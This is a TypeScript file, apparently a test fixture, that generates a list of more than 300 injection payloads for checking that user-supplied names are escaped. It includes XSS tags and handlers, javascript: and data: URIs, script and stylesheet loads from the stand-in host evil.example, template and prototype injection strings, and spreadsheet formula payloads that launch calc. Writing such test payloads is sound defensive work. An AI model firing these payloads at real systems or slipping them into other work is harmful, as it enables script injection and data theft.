/**
 * Names that would run, load something or break out, in some way or other, where they are not taken
 * for text. Each would set `globalThis.ran`, or ask evil.example for something.
 */
const run = 'globalThis.ran=1'

const tags = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open']
    .concat(['iframe', 'object data=x', 'marquee', 'select autofocus', 'image src=x'])
    .map((tag) => `<${tag} ${handlerOf(tag)}=${run}>`),
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<a href=javascript:${run}>x</a>`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action=//evil.example><button>x`,
  `<style>@import "//evil.example"</style>`,
  `<math><mi xlink:href=javascript:${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href=javascript:${run}><text>x</text></a></svg>`,
  `<embed src=//evil.example/x.swf>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
]

function handlerOf(tag: string): string {
  if (/autofocus/.test(tag)) return 'onfocus'
  if (/details/.test(tag)) return 'ontoggle'
  if (/marquee/.test(tag)) return 'onstart'
  return /src|data/.test(tag) ? 'onerror' : 'onload'
}

/** What may stand open where a name is put. */
const open = [
  ...[
    '',
    '">',
    "'>",
    '</title>',
    '</textarea>',
    '</script>',
    '</style>',
    '-->',
    ']]>',
    '</option>',
  ],
]

const attributes = ['"', "'", '`', '" x="', "' x='"].flatMap((quote) =>
  ['onmouseover', 'onfocus autofocus', 'onpointerenter', 'style=x:y onload'].map(
    (handler) => `x${quote} ${handler}=${run} y=${quote}`,
  ),
)

const scripts = [
  ...["'-R-'", '"-R-"', '`-R-`', "';R//", '";R//', '`;R//', '${R}', "\\';R//", '\\";R//'],
  ...['*/R/*', '<!--R//-->', ']};R;//', '\\u0027;R//', '\\x27;R//', "'||R||'", '{{R}}', '<%=R%>'],
  ...[
    '#{R}',
    '[[R]]',
    '{%R%}',
    '@(R)',
    '{{constructor.constructor("R")()}}',
    '${{R}}',
    '__proto__',
  ],
].map((each) => each.replace('R', run))

const addresses = [
  ...['javascript:', 'JaVaScRiPt:', 'javascript&colon;', 'java&Tab;script:', 'vbscript:'],
  ...['data:text/html,<script>', 'javascript://%0a', 'view-source:javascript:', ' javascript:'],
].map((scheme) => `${scheme}${run}`.trim())

const written = [
  ...['&lt;', '&#60;', '&#x3c;', '%3c', '%253c', '\\u003c', '\\x3c', '＜', '‹', '\u00ab'],
].flatMap((bracket) => [
  `${bracket}script>${run}${bracket}/script>`,
  `${bracket}img src=x onerror=${run}>`,
])

const formulas = ['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}HYPERLINK("//evil.example";"x")`,
  `${sign}cmd|' /C calc'!A${sign.codePointAt(0) ?? 0}`,
])

/** More than three hundred, no two alike, each of them a name that may be given. */
export const payloads: readonly string[] = [
  ...new Set([
    ...open.flatMap((before) => tags.map((tag) => before + tag)),
    ...attributes,
    ...scripts,
    ...addresses,
    ...written,
    ...formulas,
  ]),
]
